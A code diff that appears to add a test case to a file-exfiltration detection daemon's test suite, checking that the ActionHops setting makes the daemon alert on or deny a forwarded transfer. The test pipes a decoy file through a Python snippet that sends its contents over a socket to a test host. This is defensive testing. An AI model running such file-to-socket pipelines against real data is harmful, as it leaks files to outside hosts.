@@ -307,6 +307,19 @@ def never_reloaded(stage):
         stage.alert(path, action="denied" if wanted else "alert")
 
 
+def hops(stage):
+    """ActionHops=: after more hand-overs egress is only reported. A fork is none."""
+    receiver = ("import socket, sys\ndata = sys.stdin.buffer.read()\n"
+                "socket.create_connection((sys.argv[1], 443)).sendall(data)")
+    for most, action in (("0", "alert"), ("1", "denied")):
+        stage.load(ActionHops=most)
+        path, _ = stage.decoy()
+        result = stage.net.run(["sh", "-c", 'cat "$0" | "$@"', path, sys.executable, "-c", receiver, HOST_V4])
+        require_equal(result.returncode == 0, action == "alert", f"ActionHops={most}: {result.stderr}")
+        require_equal(stage.alert(path)["action"], action, f"ActionHops={most}")
+        refused(stage, "out-tcp", "blocking")
+
+
 def number_reused(net, home):
     """A thief that gets the number of a daemon that was killed is not taken for it."""
     stage = Stage(net, home)
@@ -429,6 +442,7 @@ def main():
             t.case("a full ring, and a daemon that does not read", flood, stage)
             t.case("the policy is reloaded meanwhile", under_reload, stage)
             t.case("late evidence is not refused", late, stage)
+            t.case("ActionHops=", hops, stage)
             t.case("Action=stop", signalled, stage, "stop", "stopped")
             t.case("Action=kill", signalled, stage, "kill", "killed")
             t.case("Never= an executable", never_exe, stage)
